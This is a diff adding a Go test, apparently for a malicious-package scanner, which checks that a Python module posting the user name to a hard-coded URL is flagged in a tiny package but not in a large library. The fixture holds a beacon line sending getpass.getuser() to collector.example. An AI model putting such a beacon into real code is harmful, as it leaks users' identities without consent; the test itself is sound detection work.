@@ -6,6 +6,7 @@ import (
 	"os"
 	"path/filepath"
 	"slices"
+	"strings"
 	"testing"
 
 	"customs/internal/finding"
@@ -181,5 +182,36 @@ func TestVendoredWheelIsNotThePackage(t *testing.T) {
 	}
 	if r := res[1]; r.Name == "inner" || r.Version == "2.0" {
 		t.Errorf("sdist without PKG-INFO took the vendored wheel's metadata: %s %s", r.Name, r.Version)
+	}
+}
+
+// TestPackageSize: a module that reports the user name to a hard-coded
+// URL is malicious in a two-file package, but not inside a library of
+// many modules (at most suspicious there); tests do not make a package
+// large.
+func TestPackageSize(t *testing.T) {
+	dir := t.TempDir()
+	beacon := "import getpass, requests\n\ndef report():\n    requests.post('https://collector.example/r', data={'u': getpass.getuser()})\n"
+	module := "def f%d(x):\n    return [x * %d for _ in range(10)]\n" + strings.Repeat("# filler line to make the module look like real code\n", 40)
+	tiny := []file{
+		{"tiny-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "tiny", "1.0")},
+		{"tiny-1.0/tiny/__init__.py", ""},
+		{"tiny-1.0/tiny/client.py", beacon},
+	}
+	large := []file{{"large-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "large", "1.0")}, {"large-1.0/large/client.py", beacon}}
+	padded := slices.Clone(tiny)
+	for i := range 20 {
+		large = append(large, file{fmt.Sprintf("large-1.0/large/m%d.py", i), fmt.Sprintf(module, i, i)})
+		padded = append(padded, file{fmt.Sprintf("tiny-1.0/tests/test_m%d.py", i), fmt.Sprintf(module, i, i)})
+	}
+	res := Run(context.Background(), []string{
+		writeTarGz(t, dir, "tiny-1.0.tar.gz", tiny),
+		writeTarGz(t, dir, "large-1.0.tar.gz", large),
+		writeTarGz(t, dir, "padded-1.0.tar.gz", padded),
+	}, Options{})
+	for i, wantMalicious := range []bool{true, false, true} {
+		if r := res[i]; (r.Verdict == finding.Malicious) != wantMalicious {
+			t.Errorf("%s: %s (score %.1f, rules %v), want malicious %v", r.Target, r.Verdict, r.Score, rulesOf(r), wantMalicious)
+		}
 	}
 }
